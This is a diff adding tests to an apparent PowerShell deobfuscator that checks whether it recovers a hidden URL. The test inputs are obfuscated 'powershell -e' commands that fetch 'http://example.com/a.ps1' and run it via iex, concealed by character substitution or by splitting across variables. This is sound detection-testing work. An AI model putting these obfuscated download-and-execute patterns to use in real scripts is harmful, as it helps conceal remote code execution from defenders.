@@ -178,3 +178,20 @@ def test_any_nesting_comes_back(steps: list[str]) -> None:
     for step in steps:
         script = wrap[step](script)
     assert "http://example.com/a.ps1" in decode(script, hidden=False).iocs["url"]
+
+
+@pytest.mark.parametrize("change", [("t", "2s8U"), ("A", "@!")])
+def test_encoded_command_within_a_string_that_is_changed_first_is_read_afterwards(
+    change: tuple[str, str],
+) -> None:
+    letter, marker = change
+    encoded = base64.b64encode("iwr 'http://example.com/a.ps1'".encode("utf-16-le")).decode()
+    hidden = f"powershell -nop -e {encoded}".replace(letter, marker)
+    script = f"$x = ('{hidden}' -creplace '{marker}','{letter}'); iex $x"
+    assert list(decode(script).iocs["url"]) == ["http://example.com/a.ps1"]
+
+
+def test_encoded_command_torn_over_variables_is_read_whole() -> None:
+    encoded = base64.b64encode("iwr 'http://example.com/a.ps1'".encode("utf-16-le")).decode()
+    script = f"$a='powershell -e {encoded[:32]}';$b='{encoded[32:]}';iex ($a+$b)"
+    assert list(decode(script).iocs["url"]) == ["http://example.com/a.ps1"]
